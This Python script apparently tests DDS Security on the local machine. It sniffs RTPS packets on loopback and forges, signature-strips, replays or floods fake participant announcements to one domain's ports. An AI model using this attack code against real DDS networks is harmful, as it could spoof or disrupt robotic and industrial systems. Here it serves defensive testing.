# SPDX-License-Identifier: Apache-2.0
"""Somebody at the same cable, without keys. Touches the ports of one DDS domain of this computer and no others.

packets.py DOMAIN forge N     changes number and payload of the master's blocks and sends them on
packets.py DOMAIN strip N     the same, with what is signed laid bare
packets.py DOMAIN replay N    sends what was sent once more
packets.py DOMAIN flood N     announces N participants whose prefixes are nobody's
packets.py DOMAIN known N     announces N participants whose prefixes begin as one that has keys
"""

import os
import socket
import struct
import sys
import time

domain, mode, wanted = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
first = 7400 + 250 * domain
ears = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
ears.bind(("lo", 0))
ears.settimeout(0.5)
mouth = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


def heard():
    """The next RTPS message of the domain, its port and whether it went to a group; None: silence."""
    try:
        frame, address = ears.recvfrom(65535)
    except socket.timeout:
        return None
    head = (frame[14] & 15) * 4 if frame[12:14] == b"\x08\x00" else 0
    if not head or frame[23] != 17 or address[2] == 4:
        return None
    udp = frame[14 + head :]
    port, size = struct.unpack("!HH", udp[2:6])
    data = bytearray(udp[8:size])
    if not first <= port < first + 250 or data[:4] != b"RTPS":
        return None
    return data, port, frame[30] >= 224


def submessages(data):
    at = 20
    while at + 4 <= len(data):
        size = struct.unpack("<H" if data[at + 1] & 1 else ">H", data[at + 2 : at + 4])[0]
        end = len(data) if size == 0 else at + 4 + size
        yield at, end, data[at]
        at = end


def stream_data(data):
    """Where a DATA of a stream's writer stands."""
    for at, end, kind in submessages(data):
        if kind == 0x15 and data[at + 12] == 0 and data[at + 13] == 0x53:
            return at, end
    return None


def announcement(data):
    for at, _, kind in submessages(data):
        if kind == 0x15 and data[at + 12 : at + 16] == b"\x00\x01\x00\xc2":
            return True
    return False


sent = 0
own = set()
deadline = time.time() + max(20.0, wanted / 300.0)
while sent < wanted and time.time() < deadline:
    message = heard()
    if message is None:
        continue
    data, port, group = message
    if bytes(data) in own:
        continue
    if mode in ("forge", "strip", "replay"):
        place = stream_data(data)
        if place is None:
            continue
        at, end = place
        for n in range(min(60, wanted - sent)):
            forged = bytearray(data)
            if mode != "replay":
                high, low = struct.unpack("<iI", forged[at + 16 : at + 24])
                forged[at + 16 : at + 24] = struct.pack("<iI", high, low + 1000 + sent)
                forged[at + 28 : at + 36] = os.urandom(8)
            if mode == "strip":
                forged = forged[:20] + forged[at:end]
            own.add(bytes(forged))
            mouth.sendto(bytes(forged), ("127.0.0.1", port))
            sent += 1
    elif announcement(data):
        prefix = bytes(data[8:20])
        begin = 6 if mode == "known" else 2
        fakes = []
        for n in range(min(500, wanted - sent)):
            new = prefix[:begin] + os.urandom(12 - begin)
            fakes.append(bytes(data).replace(prefix, new))
        for fake in fakes:
            own.add(fake)
            # To the ports of the first participants of this computer.
            for participant in range(4):
                mouth.sendto(fake, ("127.0.0.1", first + 10 + 2 * participant))
            sent += 1
            if sent % 20 == 0:
                time.sleep(0.002)
        if len(own) > 20000:
            own.clear()
print(f"sent {sent}")
